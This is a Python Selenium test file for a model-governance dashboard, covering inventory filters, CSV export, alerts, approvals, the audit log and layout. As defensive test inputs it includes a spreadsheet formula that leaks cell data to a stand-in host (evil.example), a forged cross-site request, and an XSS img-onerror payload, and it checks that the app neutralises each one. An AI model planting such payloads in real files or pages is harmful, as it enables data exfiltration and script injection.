"""The compliance officer's workspace in a real headless Chromium: the inventory grouped by model
with filters, sorting, paging and CSV; alerts acknowledged and resolved from the page; approvals
with their evidence and a confirmation step; the audit log's filters; 404 pages; and a 390 px
wide phone screen that nothing overflows. Screenshots go to tests/dashboards/screenshots/."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import httpx
import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions
from selenium.webdriver.support.ui import WebDriverWait

from governance.mlmodel import service as model_service
from tests.dashboards.conftest import SCREENSHOTS, Site

PHONE = (390, 844)


def _login(driver: Any, base: str, key: str) -> None:
    driver.get_log("browser")  # start each test with an empty console (the browser is shared)
    driver.delete_all_cookies()
    driver.get(f"{base}/login")
    driver.find_element(By.ID, "key").send_keys(key)
    driver.find_element(By.CSS_SELECTOR, "#login-form button").click()
    WebDriverWait(driver, 15).until(expected_conditions.url_to_be(f"{base}/"))


def _console_errors(driver: Any) -> list[str]:
    return [entry["message"] for entry in driver.get_log("browser") if entry["level"] == "SEVERE"]


def _loaded(driver: Any) -> None:
    WebDriverWait(driver, 15).until(lambda d: d.execute_script("return document.readyState") == "complete")


def _more_models(site: Site, torchscript_models: list[Path]) -> None:
    """tumour@3 in production (tumour@1 and @2 fold under it), and a second model by another owner
    whose description is a spreadsheet formula (the CSV must keep it text)."""
    with site.db.transaction() as session:
        mv = model_service.get_by_ref(session, "tumour@3")
        model_service.set_stage(
            session, mv=mv, stage="production", actor="admin", reason="low risk, meets policy"
        )
        model_service.register(
            session,
            storage=None,
            artifact=model_service.inspect_artifact(torchscript_models[0]),
            name="spam-filter",
            version="1",
            intended_use="internal",
            actor="admin",
            risk_tier="low",
            datasets=[("cancer@1", "train")],
            task="classification",
            metrics={"accuracy": 0.91},
            description='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        )


def _inventory_refs(driver: Any) -> list[str]:
    return list(
        driver.execute_script(
            "return [...document.querySelectorAll('#inventory tr.head')].map(r => r.dataset.ref)"
        )
    )


def test_inventory_groups_filters_sorts_pages_and_exports(
    browser: Any, site: Site, torchscript_models: list[Path]
) -> None:
    _more_models(site, torchscript_models)
    base, driver = site.base, browser
    _login(driver, base, site.world.keys["viewer"])
    driver.get(f"{base}/")
    _loaded(driver)
    # one row per model; the production version heads tumour, the others are folded
    assert _inventory_refs(driver) == ["spam-filter@1", "tumour@3"]
    tumour = driver.find_element(By.CSS_SELECTOR, 'tbody[data-model="tumour"]')
    assert not tumour.find_element(By.CSS_SELECTOR, 'tr[data-ref="tumour@1"]').is_displayed()
    tumour.find_element(By.CSS_SELECTOR, "details > summary").click()
    folded = tumour.find_element(By.CSS_SELECTOR, 'tr[data-ref="tumour@1"]')
    assert folded.is_displayed()
    # status cells say what they mean, with the date of the last run
    assert folded.find_element(By.CSS_SELECTOR, "td.drift").text == "breach 2026-11-01"
    assert folded.find_element(By.CSS_SELECTOR, "td.robustness").text == "warning 2026-11-01"
    assert folded.find_element(By.CSS_SELECTOR, "td.quality").text == "not monitored"
    head = tumour.find_element(By.CSS_SELECTOR, 'tr[data-ref="tumour@3"]')
    assert head.find_element(By.CSS_SELECTOR, "td.drift").text == "not monitored"
    # open alerts link to that model's open alerts
    link = folded.find_element(By.CSS_SELECTOR, "td.alerts a")
    assert link.text == "1 open" and link.get_attribute("href").endswith(
        "/alerts?model=tumour%401&status=open"
    )
    driver.save_screenshot(str(SCREENSHOTS / "inventory-grouped.png"))

    # filters through the form: monitor status "breach" keeps only tumour, headed by the breaching version
    driver.find_element(By.CSS_SELECTOR, "select[name=monitor] option[value=breach]").click()
    driver.find_element(By.CSS_SELECTOR, "#filters button[type=submit]").click()
    WebDriverWait(driver, 15).until(expected_conditions.url_contains("monitor=breach"))
    _loaded(driver)
    assert _inventory_refs(driver) == ["tumour@1"]
    for query, refs in {
        "q=spam": ["spam-filter@1"],
        "q=%25": [],  # a LIKE wildcard is searched for as text
        "owner=admin": ["spam-filter@1"],
        "stage=archived": [],
        "risk=high": ["tumour@1"],
        "monitor=not_monitored": ["spam-filter@1", "tumour@3"],
        "monitor=no_run": [],
        "compliance=ok": ["spam-filter@1", "tumour@3"],
        "sort=name&desc=1": ["tumour@3", "spam-filter@1"],
        "sort=updated&desc=1": ["spam-filter@1", "tumour@3"],
        "per_page=10&page=2": [],
    }.items():
        driver.get(f"{base}/?{query}")
        assert _inventory_refs(driver) == refs, query
    assert _console_errors(driver) == []
    driver.get(f"{base}/?stage=retired")  # a 400 page that says why, not an empty list
    assert driver.find_element(By.ID, "problem").text.startswith("unknown stage 'retired'")
    assert _inventory_refs(driver) == []

    # CSV: every matching version, formulas kept as text
    cookie = driver.get_cookie("govern_session")["value"]
    r = httpx.get(f"{base}/inventory.csv", params={"q": "spam"}, cookies={"govern_session": cookie})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [(x["model"], x["version"]) for x in rows] == [("spam-filter", "1")]
    assert rows[0]["description"].startswith("'=HYPERLINK(")
    r = httpx.get(f"{base}/inventory.csv", cookies={"govern_session": cookie})
    assert sorted(x["version"] for x in csv.DictReader(io.StringIO(r.text)) if x["model"] == "tumour") == [
        "1",
        "2",
        "3",
    ]
    assert httpx.get(f"{base}/inventory.csv").status_code in (303, 307)  # anonymous: to the login


def _no_overflow(driver: Any) -> int:
    return int(driver.execute_script("return document.documentElement.scrollWidth - window.innerWidth"))


def test_pages_fit_a_390_px_phone(browser: Any, site: Site, torchscript_models: list[Path]) -> None:
    _more_models(site, torchscript_models)
    base, driver = site.base, browser
    _login(driver, base, site.world.keys["editor"])
    driver.set_window_size(*PHONE)
    try:
        inner = driver.execute_script("return window.innerWidth")
        assert inner <= 400, inner
        for name, path in {
            "inventory": "/",
            "alerts": "/alerts",
            "approvals": "/approvals",
            "audit": "/audit",
            "model": "/models/tumour/1",
        }.items():
            driver.get(base + path)
            _loaded(driver)
            driver.save_screenshot(str(SCREENSHOTS / f"phone-{name}.png"))
            assert _no_overflow(driver) <= 0, name
        driver.get(f"{base}/")
        drift = driver.find_element(By.CSS_SELECTOR, 'tr[data-ref="tumour@3"] td.drift')
        assert drift.is_displayed() and drift.rect["x"] + drift.rect["width"] <= inner
        assert _console_errors(driver) == []
    finally:
        driver.set_window_size(1400, 1000)


def _wait_text(driver: Any, element: Any, text: str) -> None:
    WebDriverWait(driver, 15).until(lambda d: text in element.text)


def test_an_editor_acknowledges_and_resolves_alerts_with_comments(browser: Any, site: Site) -> None:
    base, driver = site.base, browser
    _login(driver, base, site.world.keys["viewer"])
    driver.get(f"{base}/alerts")
    assert driver.find_elements(By.CSS_SELECTOR, "button.ack") == []  # a viewer sees no action
    driver.get(f"{base}/alerts?status=opne")  # a typo is said, not shown as "no alerts"
    assert driver.find_element(By.ID, "problem").text == (
        "unknown status 'opne': one of open, acknowledged, resolved"
    )
    assert all("status of 400" in m for m in _console_errors(driver))  # answered 400, and read off
    _login(driver, base, site.world.keys["editor"])
    driver.get(f"{base}/alerts")
    driver.find_element(By.CSS_SELECTOR, "select[name=model] option[value='tumour@1']").click()
    driver.find_element(By.CSS_SELECTOR, "select[name=severity] option[value=high]").click()
    driver.find_element(By.CSS_SELECTOR, "#alert-filters button[type=submit]").click()
    WebDriverWait(driver, 15).until(expected_conditions.url_contains("severity=high"))
    assert driver.find_element(By.ID, "alerts").text.count("tumour-drift") == 1  # the drift alert is high
    driver.get(f"{base}/alerts?severity=low")
    assert "No alert matches." in driver.find_element(By.ID, "alerts").text
    driver.get(f"{base}/alerts?model=tumour%401&monitor=tumour-drift&status=open")
    row = driver.find_element(By.CSS_SELECTOR, "#alerts tr[data-alert]")
    model_link = row.find_element(By.CSS_SELECTOR, "td[data-label=Model] a")
    assert model_link.get_attribute("href") == f"{base}/models/tumour/1"
    row.find_element(By.CSS_SELECTOR, "input.comment").send_keys("looking into the drifted columns")
    row.find_element(By.CSS_SELECTOR, "button.ack").click()
    _wait_text(driver, row.find_element(By.CSS_SELECTOR, ".result"), "acknowledged by editor")
    assert row.find_element(By.CSS_SELECTOR, ".alert-status").text == "acknowledged"
    comment = row.find_element(By.CSS_SELECTOR, "input.comment")
    comment.clear()
    comment.send_keys("upstream feed fixed")
    row.find_element(By.CSS_SELECTOR, "button.resolve").click()
    _wait_text(driver, row.find_element(By.CSS_SELECTOR, ".result"), "resolved by editor")
    assert _console_errors(driver) == []
    driver.get(f"{base}/alerts?status=resolved")
    trail = driver.find_element(By.CSS_SELECTOR, "#alerts tr[data-alert] td.trail").text
    assert "ack by editor" in trail and "“looking into the drifted columns”" in trail
    assert "resolve by editor" in trail and "“upstream feed fixed”" in trail
    driver.save_screenshot(str(SCREENSHOTS / "alerts-resolved.png"))
    # the audit log shows it, filtered by entity and action, with the comment and a link back
    alert_id = driver.find_element(By.CSS_SELECTOR, "#alerts tr[data-alert]").get_attribute("data-alert")
    driver.get(f"{base}/audit?entity={alert_id}&action=alert.ack")
    rows = driver.find_elements(By.CSS_SELECTOR, "#events tr[data-event]")
    assert len(rows) == 1 and "comment: looking into the drifted columns" in rows[0].text
    driver.get(f"{base}/audit?entity=tumour%401")
    details = driver.find_element(By.ID, "events").text
    assert "model.register" in details and "risk_tier: high" in details
    link = driver.find_element(By.CSS_SELECTOR, "#events a.entity")
    assert link.get_attribute("href") == f"{base}/models/tumour/1"
    assert "chain verifies" in driver.find_element(By.ID, "chain").text
    driver.save_screenshot(str(SCREENSHOTS / "audit-filtered.png"))


def test_a_cross_site_form_cannot_acknowledge(site: Site) -> None:
    """The page acts with the session cookie; another site posting with it is refused, nothing changes."""
    cookie = httpx.post(f"{site.base}/login", json={"key": site.world.keys["editor"]}).cookies[
        "govern_session"
    ]
    with site.db.transaction() as session:
        from governance.monitoring.models import Alert

        alert_id = session.query(Alert.id).scalar()
    r = httpx.post(
        f"{site.base}/api/v1/alerts/{alert_id}/ack",
        json={"comment": "x"},
        cookies={"govern_session": cookie},
        headers={"Origin": "https://evil.example"},
    )
    assert r.status_code == 403
    with site.db.transaction() as session:
        assert session.get(Alert, alert_id).status == "open"  # type: ignore[union-attr]


def test_an_approver_decides_with_evidence_and_confirmation(browser: Any, site: Site) -> None:
    base, world, driver = site.base, site.world, browser
    ids = {}
    for ref in ("tumour@1", "tumour@2"):
        r = httpx.post(f"{base}/api/v1/approvals", json={"model": ref}, headers=world.headers("editor"))
        assert r.status_code == 201, r.text
        ids[ref] = r.json()["id"]
    _login(driver, base, world.keys["approver"])
    driver.get(f"{base}/approvals")
    counts = driver.find_element(By.ID, "counts")
    assert "pending: 2" in counts.text
    row = driver.find_element(By.CSS_SELECTOR, f'#queue tr[data-request="{ids["tumour@2"]}"]')
    evidence = row.find_element(By.CSS_SELECTOR, ".evidence").text
    assert "compliance: no violation" in evidence
    assert "data quality: cancer@1 (train)" in evidence
    assert "gates: not recorded" in evidence and "robustness: not recorded" in evidence
    assert "accuracy 0.956" in evidence  # rounded, not 0.9561
    assert (
        row.find_element(By.CSS_SELECTOR, "a.report")
        .get_attribute("href")
        .endswith("/api/v1/models/tumour/2/report?format=html")
    )
    high = driver.find_element(By.CSS_SELECTOR, f'#queue tr[data-request="{ids["tumour@1"]}"]')
    assert "robustness: warning" in high.find_element(By.CSS_SELECTOR, ".evidence").text
    driver.save_screenshot(str(SCREENSHOTS / "approvals-evidence.png"))

    # approve asks first; cancel posts nothing
    row.find_element(By.CSS_SELECTOR, "button.approve").click()
    confirm = row.find_element(By.CSS_SELECTOR, ".confirm")
    assert confirm.is_displayed() and "Approve tumour@2?" in confirm.text
    confirm.find_element(By.CSS_SELECTOR, "button.confirm-no").click()
    assert not confirm.is_displayed()
    assert (
        httpx.get(f"{base}/api/v1/approvals/{ids['tumour@2']}", headers=world.headers("viewer")).json()[
            "decisions"
        ]
        == []
    )
    row.find_element(By.CSS_SELECTOR, "textarea.comment").send_keys("evidence complete")
    row.find_element(By.CSS_SELECTOR, "button.approve").click()
    row.find_element(By.CSS_SELECTOR, "button.confirm-yes").click()
    _wait_text(driver, row.find_element(By.CSS_SELECTOR, ".result"), "approved: request is approved")
    WebDriverWait(driver, 15).until(lambda d: "pending: 1" in d.find_element(By.ID, "counts").text)
    assert "approved, awaiting promotion: 1" in driver.find_element(By.ID, "counts").text

    # a rejection needs a comment: without one nothing is asked or posted
    high.find_element(By.CSS_SELECTOR, "button.reject").click()
    assert high.find_element(By.CSS_SELECTOR, ".result").text == "a rejection needs a comment saying why"
    assert not high.find_element(By.CSS_SELECTOR, ".confirm").is_displayed()
    high.find_element(By.CSS_SELECTOR, "textarea.comment").send_keys("robustness below policy")
    high.find_element(By.CSS_SELECTOR, "button.reject").click()
    high.find_element(By.CSS_SELECTOR, "button.confirm-yes").click()
    _wait_text(driver, high.find_element(By.CSS_SELECTOR, ".result"), "rejected: request is rejected")
    WebDriverWait(driver, 15).until(lambda d: "pending: 0" in d.find_element(By.ID, "counts").text)
    assert _console_errors(driver) == []
    driver.get(f"{base}/approvals")
    decided = driver.find_element(By.ID, "decided").text
    assert "approved, awaiting promotion" in decided and "rejected" in decided
    assert "rejectd" not in driver.page_source
    driver.save_screenshot(str(SCREENSHOTS / "approvals-decided.png"))
    # the service refuses a rejection without a comment too (the page is not the only guard)
    r = httpx.post(f"{base}/api/v1/approvals", json={"model": "tumour@1"}, headers=world.headers("editor"))
    again = r.json()["id"]
    r = httpx.post(f"{base}/api/v1/approvals/{again}/reject", json={}, headers=world.headers("approver"))
    assert r.status_code == 422 and "needs a comment" in r.json()["error"]["message"]


def test_a_missing_page_is_a_page(browser: Any, site: Site) -> None:
    base, driver = site.base, browser
    _login(driver, base, site.world.keys["viewer"])
    for path, text in {
        "/models/tumour/99": "tumour@99",
        "/models/nope/1": "nope",
        "/no/such/page": "There is no page at /no/such/page.",
    }.items():
        driver.get(base + path)
        assert driver.find_element(By.TAG_NAME, "h1").text == "Not found", path
        assert text in driver.find_element(By.ID, "problem").text, path
    driver.save_screenshot(str(SCREENSHOTS / "not-found.png"))
    api = httpx.get(f"{base}/api/v1/models/nope", headers=site.world.headers("viewer"))
    assert api.status_code == 404 and api.json()["error"]["code"] == "not_found"  # the API stays JSON


def test_the_model_page_charts_with_one_axis_thresholds_and_breaches(browser: Any, site: Site) -> None:
    from governance.mlmodel.models import ModelVersion

    with site.db.transaction() as session:
        mv = model_service.get_by_ref(session, "tumour@1")
        mv.mlflow_run_id = "0123456789abcdef"
        model_service.set_stage(
            session, mv=mv, stage="staging", actor="admin", reason="ready for shadow traffic"
        )
        assert isinstance(mv, ModelVersion)
        from governance.monitoring.models import Monitor, MonitorRun

        drift = session.query(Monitor).filter_by(name="tumour-drift").one()
        runs = (
            session.query(MonitorRun).filter_by(monitor_id=drift.id).order_by(MonitorRun.window_start).all()
        )
        for run, score in zip(runs, (0.01, 0.04, 0.3), strict=True):  # as the data-drift check stores them
            run.details = {
                **run.details,
                "columns": [
                    {"column": "mean radius", "method": "ks", "score": score, "threshold": 0.1,
                     "drift_detected": score > 0.1},
                    {"column": "<b>texture</b>", "method": "psi", "score": 0.02, "threshold": 0.2,
                     "drift_detected": False},
                ],
            }  # fmt: skip
    base, driver = site.base, browser
    _login(driver, base, site.world.keys["viewer"])
    driver.get(f"{base}/models/tumour/1")
    WebDriverWait(driver, 15).until(
        lambda d: d.execute_script("return (window.governCharts || []).length") == 2
    )
    assert driver.find_element(By.ID, "metrics").text == "accuracy 0.956, f1 0.965, roc_auc 0.991"
    assert driver.find_element(By.ID, "mlflow").text == "0123456789abcdef (local store)"
    charts = driver.execute_script(
        """return window.governCharts.map(c => ({
             type: c.config.type,
             axes: Object.keys(c.scales).filter(k => k !== 'x'),
             datasets: c.data.datasets.map(d => ({label: d.label, tension: d.tension || 0,
               data: d.data.map(p => (p && typeof p === 'object') ? p.y : p),
               styles: d.pointStyle || null})),
           }))"""
    )
    drift, robustness = charts
    assert drift["axes"] == ["y"] and robustness["axes"] == ["y"]  # one y-axis per chart
    assert all(d["tension"] == 0 for d in drift["datasets"])  # straight lines
    labels = [d["label"] for d in drift["datasets"]]
    assert labels == ["share_drifted", "share_drifted threshold"]  # the column count is not plotted
    share, threshold = drift["datasets"]
    assert share["data"] == [0.1, 0.2, 0.6] and threshold["data"] == [0.5, 0.5, 0.5]
    assert share["styles"] == ["circle", "circle", "crossRot"]  # the breached window is marked
    assert robustness["datasets"][-1]["label"] == "worst case over attacks"
    assert robustness["datasets"][-1]["data"] == [0.9561, 0.8123, 0.5211, 0.1342]
    heat = driver.find_element(By.ID, "heatmap-0")
    rows = heat.find_elements(By.CSS_SELECTOR, "tbody tr")
    assert [r.find_element(By.TAG_NAME, "th").text for r in rows] == ["mean radius", "<b>texture</b>"]
    cells = rows[0].find_elements(By.TAG_NAME, "td")
    assert [c.text for c in cells] == ["0.01", "0.04", "0.3"]
    assert [c.get_attribute("class") for c in cells] == ["heat-0", "heat-1", "heat-4 drifted"]
    driver.execute_script("arguments[0].scrollIntoView({block: 'center'})", heat)
    driver.save_screenshot(str(SCREENSHOTS / "model-heatmap.png"))
    history = driver.find_element(By.ID, "history").text
    assert "candidate staging admin ready for shadow traffic" in history
    canvas = driver.find_element(By.CSS_SELECTOR, "canvas.monitor-chart")
    driver.execute_script("arguments[0].scrollIntoView({block: 'start'})", canvas)
    driver.save_screenshot(str(SCREENSHOTS / "model-drift.png"))
    assert _console_errors(driver) == []


def test_performance_chart_from_a_concept_drift_monitor() -> None:
    from dashboards import queries

    class Run:
        def __init__(self, status: str, accuracy: float) -> None:
            self.status, self.window_end = status, __import__("datetime").datetime(2026, 11, 1)
            self.metrics = {
                "accuracy": accuracy,
                "accuracy_ci_low": accuracy - 0.02,
                "accuracy_ci_high": accuracy + 0.02,
            }
            self.thresholds = {"baseline_accuracy": 0.95, "max_drop_accuracy": 0.1}
            self.details = {}

    class Mon:
        name, kind = "live", "concept_drift"

    chart = queries._performance_chart(Mon(), [Run("ok", 0.95), Run("breach", 0.07)])  # type: ignore[arg-type]
    assert chart is not None
    assert chart["values"] == [0.95, 0.07] and chart["statuses"] == ["ok", "breach"]
    assert chart["threshold"] == pytest.approx(0.85) and chart["baseline"] == 0.95
    assert queries.mlflow_link("http://mlflow:5000/", "ab/c") == "http://mlflow:5000/#/runs/ab%2Fc"
    assert queries.mlflow_link("file:///tmp/mlruns", "abc") is None
    assert queries.rounded({"a": 0.95612345, "b": [5040.2, 1e-9]}) == {"a": 0.956, "b": [5040, 1e-9]}


def test_hostile_comments_and_filters_show_as_text(browser: Any, site: Site) -> None:
    """An editor's comment and a crafted filter link are data: nothing in them runs on our origin."""
    payload = "<img src=x onerror=\"document.body.setAttribute('data-xss','ran')\">"
    with site.db.transaction() as session:
        from governance.monitoring.models import Alert

        alert_id = session.query(Alert.id).scalar()
    r = httpx.post(
        f"{site.base}/api/v1/alerts/{alert_id}/ack",
        json={"comment": payload},
        headers=site.world.headers("editor"),
    )
    assert r.status_code == 200, r.text
    base, driver = site.base, browser
    _login(driver, base, site.world.keys["viewer"])
    driver.get(f"{base}/alerts")
    assert payload in driver.find_element(By.CSS_SELECTOR, "td.trail").text
    driver.get(f"{base}/?q={payload}")
    assert driver.find_element(By.CSS_SELECTOR, "input[name=q]").get_attribute("value") == payload
    driver.get(f"{base}/audit?entity={payload}")
    assert driver.find_element(By.CSS_SELECTOR, "input[name=entity]").get_attribute("value") == payload
    assert driver.execute_script("return document.body.getAttribute('data-xss')") is None
    assert driver.find_elements(By.CSS_SELECTOR, "main img") == []
